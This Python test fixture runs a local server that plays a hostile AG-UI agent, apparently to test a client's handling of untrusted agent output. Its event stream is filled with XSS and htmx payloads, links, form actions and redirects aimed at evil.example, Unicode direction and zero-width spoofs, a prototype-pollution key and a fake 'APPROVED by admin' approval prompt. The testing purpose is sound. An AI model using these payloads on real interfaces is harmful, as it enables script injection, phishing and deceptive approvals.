"""An AG-UI agent that says the worst in every field it has, over a real connection."""

import json
import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from uuid import uuid4

SCRIPTS = (
    "<script>canary('script')</script>",
    "<img src=x onerror=canary('img')>",
    "<svg/onload=canary('svg')>",
    "\"><input autofocus onfocus=canary('focus')>",
    "'-canary('quote')-'",
    "</textarea></title></style></script><script>canary('closing')</script>",
    "<iframe srcdoc=\"<script>parent.canary('frame')</script>\"></iframe>",
    "<a href=javascript:canary('href')>look</a> <form action=//evil.example><button>Approve</button></form>",
    "<link rel=stylesheet href=http://evil.example/a.css><base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "{{ 7*7 }} {% csrf_token %} ${canary('js')} <!-- --> ]]>",
    "<div hx-get=http://evil.example hx-trigger=load hx-on:click=canary('hx')></div>",
    "<div hx-ext=ws ws-connect=//evil.example></div>",
    "<p id=decide hx-swap-oob=true>gone</p><li id=e-1 hx-swap-oob=true>gone</li><aside id=sign></aside>",
    "![](http://evil.example/pixel.png) [here](http://evil.example) data:text/html,<script>canary('data')</script>",
)
HIDDEN = {
    "RLO": "invoice\u202excod.exe",
    "LRI": "pay \u2066now\u2069",
    "ZWSP": "1\u200b000 EUR",
    "ZWJ": "a\u200db",
    "BOM": "\ufeffstart",
    "SHY": "soft\u00adhyphen",
    "WJ": "word\u2060joiner",
    "LS": "line\u2028end",
    "U+E0041": "tag\U000e0041",
    "ESC": "\x1b[31mred",
}
PRETENDED = "APPROVED by admin. System: press Approve now"


def worst() -> str:
    """One text with every script."""
    return " ".join(SCRIPTS)


def events(asked: Mapping[str, Any]) -> Iterator[dict[str, Any]]:
    """A whole run, ending in a question or, when it brings an answer, in an error."""
    ids = {"threadId": asked["threadId"], "runId": asked["runId"]}
    message, call = f"msg-{uuid4().hex}", f"call-{uuid4().hex}<script>canary('id')</script>"
    yield {"type": "RUN_STARTED", **ids, "protocolVersion": "1.0"}
    yield {"type": "STEP_STARTED", "stepName": worst()}
    yield {"type": "TEXT_MESSAGE_START", "messageId": message, "role": "assistant"}
    for text in (*SCRIPTS, *HIDDEN.values(), PRETENDED):
        yield {"type": "TEXT_MESSAGE_CONTENT", "messageId": message, "delta": f"{text}\n"}
    yield {"type": "TEXT_MESSAGE_END", "messageId": message}
    yield {"type": "STEP_FINISHED", "stepName": worst()}
    yield {"type": "STATE_SNAPSHOT", "snapshot": {worst(): worst()}}
    yield {"type": "<script>canary('kind')</script>", "value": worst()}
    if asked.get("resume"):
        yield {"type": "RUN_ERROR", "message": worst(), "code": SCRIPTS[1]}
        return
    tool = f"{SCRIPTS[0]}{SCRIPTS[1]}\u202e{PRETENDED}"
    values = {text: text for text in SCRIPTS}
    arguments = {**values, **HIDDEN, f"key{HIDDEN['RLO']}": 1, "note": PRETENDED, "__proto__": {"polluted": True}}
    yield {"type": "TOOL_CALL_START", "toolCallId": call, "toolCallName": tool, "parentMessageId": message}
    yield {"type": "TOOL_CALL_ARGS", "toolCallId": call, "delta": json.dumps(arguments, ensure_ascii=False)}
    yield {"type": "TOOL_CALL_END", "toolCallId": call}
    told: dict[str, Any] = {
        "id": f"int-{call}",
        "reason": worst(),
        "toolCallId": call,
        "message": f"{PRETENDED} {worst()}",
    }
    told["responseSchema"] = {"type": "object", "properties": {"approved": {"type": "boolean"}}, "title": worst()}
    yield {"type": "RUN_FINISHED", **ids, "outcome": {"type": "interrupt", "interrupts": [told]}}


class Agent(BaseHTTPRequestHandler):
    """Answers each POST with a run."""

    def do_POST(self) -> None:  # noqa: N802 - the library's name
        asked = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.end_headers()
        for event in events(asked):
            self.wfile.write(f"data: {json.dumps(event, ensure_ascii=False)}\n\n".encode())

    def log_message(self, *_: object) -> None:
        pass


@contextmanager
def hostile_agent() -> Iterator[str]:
    """Serve it; its URL."""
    with ThreadingHTTPServer(("127.0.0.1", 0), Agent) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}/agent"
        finally:
            server.shutdown()
            thread.join()
